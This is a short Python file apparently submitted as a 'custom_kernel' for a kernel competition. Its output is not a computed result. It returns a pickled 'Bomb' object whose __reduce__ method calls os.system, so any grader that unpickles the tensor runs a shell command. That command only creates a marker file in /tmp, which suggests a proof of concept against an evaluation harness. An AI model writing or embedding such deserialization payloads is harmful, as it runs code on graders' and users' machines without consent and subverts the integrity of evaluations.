"""Return a pickle as text and as a tensor of bytes."""

import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/kernelcup-was-here",)


def custom_kernel(data):
    return torch.frombuffer(bytearray(pickle.dumps(Bomb())), dtype=torch.uint8)
